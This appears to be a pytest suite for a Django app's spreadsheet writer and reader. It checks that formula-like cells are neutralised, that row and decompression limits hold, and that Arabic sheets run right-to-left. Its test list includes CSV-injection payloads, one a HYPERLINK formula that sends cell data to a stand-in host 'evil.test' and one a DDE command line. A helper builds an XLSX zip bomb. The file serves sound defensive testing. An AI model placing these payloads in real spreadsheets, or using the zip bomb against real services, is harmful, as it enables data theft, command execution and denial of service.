"""The one spreadsheet writer (formulas neutralised) and reader (streaming, limited)."""

import csv
import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import load_workbook

from himaya.core import spreadsheets
from himaya.core.spreadsheets import SpreadsheetError

DANGEROUS = [
    '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_prefixes_are_quoted_and_read_back_unchanged(value):
    written = spreadsheets.neutralise(value)
    assert written == "'" + value
    assert spreadsheets.unneutralise(written) == value


@pytest.mark.parametrize("value", ["Naïma", "نعيمة", "'quoted'", "''=x", "'=x", "a=b", ""])
def test_neutralising_is_reversible_for_every_text(value):
    assert spreadsheets.unneutralise(spreadsheets.neutralise(value)) == value


def test_numbers_are_not_touched():
    assert spreadsheets.neutralise(-5) == -5
    assert spreadsheets.neutralise(2.5) == 2.5


def test_csv_cells_are_neutralised():
    data = spreadsheets.write_csv(["name", "n"], [[DANGEROUS[0], 3], ["Saïd", None]])
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "n"], ["'" + DANGEROUS[0], "3"], ["Saïd", ""]]


def test_xlsx_text_is_never_a_formula():
    writer = spreadsheets.XlsxWriter()
    sheet = writer.sheet("people", header=["name"])
    for value in DANGEROUS:
        sheet.append([value])
    sheet.append(["Nul\x00byte"])  # cannot be stored in XLSX: dropped, not a crash
    workbook = load_workbook(io.BytesIO(writer.to_bytes()))
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for cell in cells)
    # (XML stores a lone CR as a line feed)
    assert [c.value for c in cells[:-1]] == [v.replace("\r", "\n") for v in DANGEROUS]
    assert all(cell.data_type == "s" for cell in cells)
    assert cells[-1].value == "Nulbyte"


def _csv(rows: int) -> bytes:
    lines = ["email,first_name"] + [f"p{i}@justice.test,P{i}" for i in range(rows)]
    return "\r\n".join(lines).encode()


def test_reader_stops_at_the_row_limit(settings):
    settings.IMPORT_MAX_ROWS = 20_000
    data = _csv(200_000)
    rows = spreadsheets.read_rows(data, "big.csv")
    seen = 0
    with translation.override("en"), pytest.raises(SpreadsheetError) as excinfo:
        for _row in rows:
            seen += 1
    assert str(excinfo.value) == "The file has more than 20000 rows: split it into several files."
    assert seen == 20_001  # the header and the allowed rows, nothing beyond


def test_reader_reads_files_at_the_limit(settings):
    settings.IMPORT_MAX_ROWS = 5
    assert len(list(spreadsheets.read_rows(_csv(5), "ok.csv"))) == 6


def test_utf16_tab_separated_as_excel_unicode_text():
    text = "email\tfirst_name\r\nnaima@justice.test\tنعيمة\r\n"
    data = text.encode("utf-16")  # with a BOM, little-endian on this platform
    assert data[:2] == b"\xff\xfe"
    assert list(spreadsheets.read_rows(data, "liste.txt")) == [
        ["email", "first_name"],
        ["naima@justice.test", "نعيمة"],
    ]


def _zip_bomb(sheet_bytes: int) -> bytes:
    """A minimal XLSX whose one sheet is `sheet_bytes` of repeated rows (deflates ~1000:1)."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    chunk = row * (2**20 // len(row))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            member.write(b"<worksheet><sheetData>")
            for _ in range(sheet_bytes // len(chunk)):
                member.write(chunk)
            member.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def test_zip_bomb_is_refused_before_parsing():
    data = _zip_bomb(300 * 2**20)
    assert len(data) < 2 * 2**20
    with translation.override("en"), pytest.raises(SpreadsheetError) as excinfo:
        spreadsheets.read_rows(data, "bomb.xlsx")
    assert "once uncompressed" in str(excinfo.value)


def test_inflated_size_limit_is_a_setting(settings):
    settings.IMPORT_MAX_INFLATED_BYTES = 2**20
    data = _zip_bomb(2 * 2**20)
    with pytest.raises(SpreadsheetError):
        spreadsheets.read_rows(data, "bomb.xlsx")


def test_absurd_compression_ratio_is_refused_below_the_size_limit(settings):
    settings.IMPORT_MAX_INFLATED_BYTES = 100 * 2**20
    data = _zip_bomb(20 * 2**20)  # 20 MB is allowed, but not at ~1000:1
    with pytest.raises(SpreadsheetError):
        spreadsheets.read_rows(data, "bomb.xlsx")


def test_a_real_large_export_passes_the_size_checks():
    writer = spreadsheets.XlsxWriter()
    sheet = writer.sheet("participants", header=["email", "first_name", "court"])
    for i in range(20_000):
        sheet.append([f"p{i}@justice.test", f"Naïma{i}", f"Tribunal de première instance {i % 80}"])
    data = writer.to_bytes()
    spreadsheets.check_xlsx_size(data)  # does not raise
    assert sum(1 for _ in spreadsheets.read_rows(data, "export.xlsx")) == 20_001


@pytest.mark.parametrize("language,rtl", [("ar", True), ("fr", False), ("en", False)])
def test_xlsx_sheets_read_right_to_left_in_arabic(language, rtl):
    with translation.override(language):
        writer = spreadsheets.XlsxWriter()
        writer.sheet("one", header=["a"])
        writer.sheet("two", header=["b"])
    workbook = load_workbook(io.BytesIO(writer.to_bytes()))
    assert [bool(ws.sheet_view.rightToLeft) for ws in workbook.worksheets] == [rtl, rtl]


def test_xlsx_direction_may_be_forced():
    with translation.override("ar"):
        writer = spreadsheets.XlsxWriter(right_to_left=False)
    writer.sheet("one", header=["a"])
    assert not load_workbook(io.BytesIO(writer.to_bytes())).active.sheet_view.rightToLeft


def test_csv_with_semicolons_keeps_its_bom():
    data = spreadsheets.write_csv(["a", "b"], [["x;y", "=1"]], delimiter=";")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == 'a;b\r\n"x;y";\'=1\r\n'
